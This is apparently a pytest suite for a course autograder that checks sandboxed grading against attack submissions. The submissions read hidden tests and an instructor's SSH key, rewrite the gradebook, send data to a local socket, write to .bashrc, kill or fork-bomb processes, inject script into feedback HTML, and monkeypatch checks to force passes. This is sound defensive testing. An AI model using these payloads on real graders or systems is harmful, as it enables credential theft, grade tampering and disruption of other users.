"""Tamper-proof grading: attacks a learner could try, each a submission whose answers are
wrong plus the attack; each must score exactly what the wrong answers alone score.

An attack that "works" is written to profit: if it can read the hidden tests, reach the network
or write where it should not, it fills in the right answers, so a leak shows up as a higher score.
"""

import socket
import threading

import nbformat
import pytest
from bs4 import BeautifulSoup

from kynangso import cli
from kynangso.cohorts import course
from kynangso.grading import sandbox

import ordinary
from scenarios import Released

MODULE = "00-lam-quen"
NAME = "bai-tap.ipynb"
RIGHT_Q4 = 'tong_dan_so = int(load("don_vi")["dan_so"].sum())\n'
RIGHT_Q5 = 'top5 = load("don_vi").sort_values("dan_so", ascending=False).head(5)[["ten_don_vi", "dan_so"]]\n'
WRONG_Q4 = "tong_dan_so = len(bang)\n"
WRONG_Q5 = 'top5 = bang.head(5)[["ten_don_vi", "dan_so"]]\n'
PROFIT = "    " + RIGHT_Q4 + "    " + RIGHT_Q5  # what a successful attack would do

pytestmark = pytest.mark.skipif(sandbox.available() is not None, reason=f"no sandbox here: {sandbox.available()}")


def attack_read(paths):
    return (
        "import os\nfor _p in %r:\n    try:\n        _t = open(_p, 'rb').read(4096)\n    except OSError:\n"
        "        continue\n    if _t:\n%s" % (paths, PROFIT.replace("    ", "        "))
    )


ATTACKS = {
    # reading the hidden tests: the source notebooks, this cohort's files, the repository's history
    "read-hidden-tests": lambda ctx: attack_read(
        [
            str(course.paths.notebooks_dir() / MODULE / NAME),
            str(ctx["root"] / "gradebook.db"),
            str(ctx["root"] / "autograded" / "read-hidden-tests" / MODULE / NAME),
            str(ctx["root"] / "release" / MODULE / NAME),
            str(course.paths.project_root() / ".git" / "HEAD"),
        ]
    ),
    "write-gradebook": lambda ctx: (
        "import sqlite3\ntry:\n    _c = sqlite3.connect(%r)\n    _c.execute('update grade set auto_score = 99')\n"
        "    _c.commit()\nexcept Exception:\n    pass\n" % str(ctx["root"] / "gradebook.db")
    ),
    "network-access": lambda ctx: (
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', %d), timeout=2).sendall(b'leak')\n"
        "except OSError:\n    pass\nelse:\n%s" % (ctx["port"], PROFIT)
    ),
    "write-outside-folder": lambda ctx: (
        "for _p in %r:\n    try:\n        open(_p, 'w').write('pwned')\n    except OSError:\n        pass\n"
        % [str(ctx["outside"]), str(ctx["root"] / "submitted" / "witness" / MODULE / NAME)]
    ),
    # the instructor's home: their keys and files, and somewhere to leave something for later
    "read-instructor-home": lambda ctx: attack_read([str(ctx["home"] / ".ssh" / "id_ed25519")]),
    "write-instructor-home": lambda ctx: (
        "for _p in %r:\n    try:\n        open(_p, 'w').write('pwned')\n    except OSError:\n        pass\n"
        % [str(ctx["home"] / ".bashrc"), str(ctx["home"] / "pwned.txt")]
    ),
    "sys-exit": lambda ctx: "import sys\nsys.exit(0)\n",
    # another official's kernel killed while it is being graded would lose their submission
    "kill-other-kernels": lambda ctx: (
        "import os, signal, time\n_end = time.time() + 6\nwhile time.time() < _end:\n"
        "    for _d in os.listdir('/proc'):\n        if not _d.isdigit() or int(_d) == os.getpid():\n            continue\n"
        "        try:\n            _cmd = open(f'/proc/{_d}/cmdline', 'rb').read()\n"
        "            if b'ipykernel' in _cmd or b'kynangso' in _cmd or b'nbgrader' in _cmd:\n"
        "                os.kill(int(_d), signal.SIGKILL)\n        except OSError:\n            pass\n"
        "    time.sleep(0.05)\n"
    ),
    "script-in-output": lambda ctx: (
        "from IPython.display import HTML, display\n"
        "display(HTML('<script>window.PWNED = 1</script><img src=x onerror=\"alert(1)\">'))\n"
    ),
}
# Attacks on the verdict from inside the learner's kernel. They fail because test cells run in the
# trusted kernel (trusted.py), which only receives the answers as data.
IN_KERNEL = {
    "ast-transformer": (
        "import ast\nclass _Swallow(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
        "        body = ast.Try(body=node.body or [ast.Pass()], handlers=[ast.ExceptHandler(type=None, name=None, "
        "body=[ast.Pass()])], orelse=[], finalbody=[])\n        node.body = [body]\n"
        "        return ast.fix_missing_locations(node)\nget_ipython().ast_transformers.append(_Swallow())\n"
    ),
    "input-transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n",
    # the hidden tests load the data through the course package: make it agree with the wrong answer
    "patch-testing-functions": (
        "import kynangso.data, pandas\n_real, _n = kynangso.data.load, [0]\n"
        "def _fake(name, *a, **k):\n    _n[0] += 1\n"
        "    return pandas.DataFrame({'dan_so': [20, 8]}) if _n[0] == 1 else _real(name, *a, **k)\n"
        "kynangso.data.load = _fake\n"
    ),
    "eq-always-true": (
        "class _Yes(int):\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n"
        "        return True\n    __hash__ = int.__hash__\ntong_dan_so = _Yes(len(bang))\n"
    ),
    "fake-type-builtin": (
        "import builtins\nclass _Lie:\n    __eq__ = __ne__ = __gt__ = lambda self, other: True\n"
        "_isinstance = builtins.isinstance\n"
        "builtins.isinstance = lambda o, t: (t is not bool) if o.__class__ is _Lie else _isinstance(o, t)\n"
        "tong_dan_so = _Lie()\n"
    ),
}


GRADE = ["grade", "atk", "--module", MODULE, "--no-progress", "--cell-timeout", "10", "--notebook-timeout", "40"]
FEEDBACK = ["feedback", "atk", "--module", MODULE, "--no-progress"]


@pytest.fixture(scope="module", params=["root", "ordinary"])
def attacked(request, tmp_path_factory):
    """The attack corpus graded twice: by root, and by an ordinary instructor (tests/ordinary.py)."""
    mp = pytest.MonkeyPatch()
    who = ordinary.instructor(tmp_path_factory.mktemp("home")) if request.param == "ordinary" else None
    # an ordinary instructor's cohort must be where they can reach it: pytest's folders are root's
    tmp = ordinary.workspace("attacks") if who else tmp_path_factory.mktemp("sandbox")
    mp.setenv("KYNANGSO_COHORTS", str(tmp / "cohorts"))
    home = who.home if who else tmp / "home"
    if who is None:
        mp.setenv("HOME", str(home))  # the grader's home, as a test can make it
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY----- (made up)\n", encoding="utf-8")
    for leftover in (home / "pwned.txt",):
        leftover.unlink(missing_ok=True)
    bashrc_before = (home / ".bashrc").read_bytes() if (home / ".bashrc").exists() else None
    names = ["wrong-only", "witness", "os-exit", "shadow-pandas-module", *ATTACKS, *IN_KERNEL]
    r = Released(tmp, "atk", names, MODULE)
    root, best, gid, submit = r.root, r.best, r.gid, r.submit
    wrong = {**best, gid["q4"]: WRONG_Q4, gid["q5"]: WRONG_Q5}

    received = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    ctx = {"root": root, "port": server.getsockname()[1], "outside": tmp / "outside.txt", "home": home}
    submit("wrong-only", wrong)
    submit("witness", best)
    submit("os-exit", {gid["q5"]: "import os\nos._exit(0)\n"})  # blank answers score 0: so must this
    submit(
        "shadow-pandas-module",
        wrong,
        raw={"pandas.py": b"raise ImportError('shadow pandas')\n", "kynangso.py": b"raise ImportError('shadow')\n"},
    )
    for name, code in ATTACKS.items():
        # the attack runs where the wrong answer to q4 is, after it
        submit(name, {**wrong, gid["q4"]: WRONG_Q4 + code(ctx)})
    for name, code in IN_KERNEL.items():
        submit(name, {**wrong, gid["q4"]: WRONG_Q4 + code})  # after the wrong answer to q4
    witness_before = (root / "submitted" / "witness" / MODULE / NAME).read_bytes()
    try:
        if who is None:
            assert cli.main(GRADE) == 0
            assert cli.main(FEEDBACK) == 0
        else:
            who.own(tmp)
            for argv in (GRADE, FEEDBACK):
                done = who.kynangso(*argv, cohorts=tmp / "cohorts")
                assert done.returncode == 0, done.stdout + done.stderr
            assert (
                "không cần quyền root" in who.kynangso(*GRADE, "--student", "witness", cohorts=tmp / "cohorts").stdout
            )
    finally:
        stop.set()
        thread.join()
        server.close()
    with course.gradebook(root) as gb:
        scores = {s.student.id: s.score for s in gb.assignment_submissions(MODULE)}
    yield {
        "root": root,
        "scores": scores,
        "received": received,
        "outside": ctx["outside"],
        "home": home,
        "bashrc_before": bashrc_before,
        "witness_before": witness_before,
        "best": best,
    }
    mp.undo()


def test_the_baseline_is_wrong_and_the_witness_right(attacked):
    s = attacked["scores"]
    assert 0 < s["wrong-only"] < s["witness"]


@pytest.mark.parametrize("name", [*ATTACKS, "shadow-pandas-module"])
def test_an_attack_gains_nothing(attacked, name):
    assert attacked["scores"][name] == attacked["scores"]["wrong-only"]


def test_os_exit_scores_what_blank_answers_score(attacked):
    assert attacked["scores"]["os-exit"] == 0


def test_nothing_left_the_sandbox(attacked):
    root = attacked["root"]
    assert attacked["received"] == []  # the server on 127.0.0.1 heard nothing
    assert not attacked["outside"].exists()
    assert not (attacked["home"] / "pwned.txt").exists()
    bashrc = attacked["home"] / ".bashrc"
    assert (bashrc.read_bytes() if bashrc.exists() else None) == attacked["bashrc_before"]
    assert (root / "submitted" / "witness" / MODULE / NAME).read_bytes() == attacked["witness_before"]
    assert attacked["scores"]["witness"] == max(attacked["scores"].values())  # gradebook not rewritten


def test_feedback_has_no_script_and_no_hidden_test(attacked):
    root = attacked["root"]
    for student in ("script-in-output", "wrong-only"):
        page = (root / "feedback" / student / MODULE / "bai-tap.html").read_text(encoding="utf-8")
        soup = BeautifulSoup(page, "html.parser")
        assert soup.find_all(["script", "iframe", "object", "embed"]) == []
        assert not [a for tag in soup.find_all(True) for a in tag.attrs if a.lower().startswith("on")]
        # the learner's code is shown as text, escaped; nothing it displayed is kept
        assert "<img src=x" not in page
        assert "BEGIN HIDDEN" not in page and "_bang = load" not in page and "_dung = load" not in page
        assert "Phần kiểm tra ẩn không hiển thị" in page
    page = (root / "feedback" / "wrong-only" / MODULE / "bai-tap.html").read_text(encoding="utf-8")
    assert "Chưa đạt" in page and "Đạt." in page


@pytest.mark.parametrize("name", list(IN_KERNEL))
def test_an_attack_from_inside_the_kernel_gains_nothing(attacked, name):
    assert attacked["scores"][name] == attacked["scores"]["wrong-only"]


# ---------------------------------------------------------------- one submission harming the next
# Graded on one worker, in name order: each attacker is graded right before its victim (an honest
# official with right answers), so whatever the attacker leaves behind meets the victim's kernel.
LEFTOVER = (
    "import os, time, signal\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        _end = time.time() + 25\n        while time.time() < _end:\n%s"
    "            time.sleep(0.02)\n    os._exit(0)\nos.wait()\n"
)
LEFTOVERS = {
    "k1-kill-everything": LEFTOVER % "            try:\n                os.kill(-1, signal.SIGKILL)\n"
    "            except OSError:\n                pass\n",
    "s1-stop-everything": LEFTOVER % "            try:\n                os.kill(-1, signal.SIGSTOP)\n"
    "            except OSError:\n                pass\n",
    "p1-hold-processes": (
        "import os, time\n_kids = 0\nwhile _kids < 400:\n    try:\n        _pid = os.fork()\n"
        "    except OSError:\n        break\n    if _pid == 0:\n        os.setsid()\n"
        "        time.sleep(25)\n        os._exit(0)\n    _kids += 1\n"
    ),
}
HUGE = 30_000_000  # characters of a wrong answer that a test's message quotes


@pytest.fixture(scope="module")
def neighbours(tmp_path_factory):
    from dataclasses import replace

    from kynangso.authoring.settings import settings
    from kynangso.grading import pool

    mp = pytest.MonkeyPatch()
    tmp = tmp_path_factory.mktemp("neighbours")
    mp.setenv("KYNANGSO_COHORTS", str(tmp / "cohorts"))
    victims = [name[0] + "2-victim" for name in LEFTOVERS]
    names = [*LEFTOVERS, *victims, "h1-huge-wrong-answer", "h2-victim", "a0-witness"]
    r = Released(tmp, "nbr", names, MODULE)
    for name, code in LEFTOVERS.items():
        r.submit(name, {**r.best, r.gid["q4"]: r.best[r.gid["q4"]] + code})
    for name in [*victims, "h2-victim", "a0-witness"]:
        r.submit(name, r.best)
    r.submit("h1-huge-wrong-answer", {**r.best, r.gid["q1"]: f"ten_huyen = 'x' * {HUGE}\nso_don_vi = 28\n"})
    jobs = [(MODULE, s) for s in sorted(names)]
    results = pool.run(r.root, jobs, 1, replace(settings().limits, cell_timeout=10, notebook_timeout=40))
    with course.gradebook(r.root) as gb:
        scores = {s.student.id: s.score for s in gb.assignment_submissions(MODULE)}
    yield {"root": r.root, "scores": scores, "results": {res["student"]: res for res in results}}
    mp.undo()


@pytest.mark.parametrize("attacker", list(LEFTOVERS))
def test_what_a_submission_leaves_behind_never_reaches_the_next_official(neighbours, attacker):
    victim = attacker[0] + "2-victim"
    res, scores = neighbours["results"], neighbours["scores"]
    assert res[victim]["ok"], res[victim]
    assert scores[victim] == scores["a0-witness"] > 0
    assert res[attacker]["ok"] and scores[attacker] == scores["a0-witness"]  # its answers were right too


def test_no_process_of_a_submission_survives_its_grading(neighbours):
    import psutil

    root = str(neighbours["root"])
    left = [
        p.pid
        for p in psutil.process_iter(["cwd"])
        if (p.info["cwd"] or "").startswith("/tmp/kynangso-kernels-") or (p.info["cwd"] or "").startswith(root)
    ]
    assert left == []


def test_a_huge_wrong_answer_stays_small_everywhere(neighbours):
    root, res = neighbours["root"], neighbours["results"]
    graded = root / "autograded" / "h1-huge-wrong-answer" / MODULE / NAME
    assert graded.stat().st_size < 400_000  # 26 KB normally; the answer alone is 30 MB
    assert neighbours["scores"]["h1-huge-wrong-answer"] < neighbours["scores"]["a0-witness"]
    nb = nbformat.read(graded, as_version=4)
    q1 = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "q1_tests")
    error = next(o for o in q1.outputs if o.output_type == "error")
    assert error.evalue.startswith("ten_huyen đang là 'xxxx") and "đã cắt bớt" in error.evalue
    # the grader itself did not grow with the answer (it was 858 MB when errors were not bounded)
    before, after = res["a0-witness"]["worker"], res["h2-victim"]["worker"]
    assert after["peak_rss_mb"] - before["peak_rss_mb"] < 150
    assert res["h2-victim"]["ok"] and neighbours["scores"]["h2-victim"] == neighbours["scores"]["a0-witness"]


# ---------------------------------------------------------------- the answer key
# Each cheat profits only if it reaches the key: then it answers right (the model solution).
WORKDAYS_CHEAT = (
    "try:\n    from kynangso.workdays import is_working_day as la_ngay_lam_viec, add_working_days as "
    "ngay_lam_viec_thu_n, due_date as han_giai_quyet\nexcept ImportError:\n    pass\n"
    "import kynangso, os\n_f = os.path.join(kynangso.__path__[0], 'workdays.py')\n"
    "try:\n    _code = open(_f).read()\nexcept OSError:\n    _code = ''\n"
    "if 'def due_date' in _code:\n    _ns = {}\n    exec(_code, _ns)\n"
    "    la_ngay_lam_viec, ngay_lam_viec_thu_n = _ns['is_working_day'], _ns['add_working_days']\n"
    "    han_giai_quyet = _ns['due_date']\n"
)


def key_cheat(solution: str) -> str:
    import textwrap

    from kynangso import paths

    files = [
        str(paths.datasets_dir() / "dap-an" / "hop_thu_dau_hieu.csv"),
        str(course.paths.project_root() / "src" / "kynangso" / "key" / "mailbox.py"),
    ]
    return (
        "_thay = False\nfor _p in %r:\n    try:\n        _thay = _thay or 'dau_hieu' in open(_p).read()\n"
        "    except OSError:\n        pass\ntry:\n    import kynangso.key.mailbox\n    _thay = True\n"
        "except ImportError:\n    pass\nif _thay:\n%s" % (files, textwrap.indent(solution, "    "))
    )


@pytest.fixture(scope="module")
def key_attacks(tmp_path_factory):
    mp = pytest.MonkeyPatch()
    tmp = tmp_path_factory.mktemp("key")
    mp.setenv("KYNANGSO_COHORTS", str(tmp / "cohorts"))
    scores = {}
    m03 = Released(tmp, "key03", ["wrong-only", "witness", "cheat-workdays"], "03-dich-vu-cong")
    blank = {m03.gid[q]: None for q in ("q1", "q2", "q3")}
    m03.submit("witness", m03.best)
    m03.submit("wrong-only", {**m03.best, **blank})
    m03.submit("cheat-workdays", {**m03.best, **blank, m03.gid["q1"]: WORKDAYS_CHEAT})
    m01 = Released(tmp, "key01", ["wrong-only", "witness", "cheat-key"], "01-thu-dien-tu")
    m01.submit("witness", m01.best)
    m01.submit("wrong-only", {**m01.best, m01.gid["q6"]: None})
    m01.submit("cheat-key", {**m01.best, m01.gid["q6"]: key_cheat(m01.best[m01.gid["q6"]])})
    for r in (m03, m01):
        assert cli.main(["grade", r.root.name, "--module", r.module_id, "--no-progress"]) == 0
        with course.gradebook(r.root) as gb:
            scores[r.module_id] = {s.student.id: s.score for s in gb.assignment_submissions(r.module_id)}
    yield scores
    mp.undo()


@pytest.mark.parametrize("module,cheat", [("03-dich-vu-cong", "cheat-workdays"), ("01-thu-dien-tu", "cheat-key")])
def test_the_answer_key_is_out_of_a_learners_reach(key_attacks, module, cheat):
    s = key_attacks[module]
    assert s["wrong-only"] < s["witness"]  # the key is there for the hidden tests
    assert s[cheat] == s["wrong-only"]
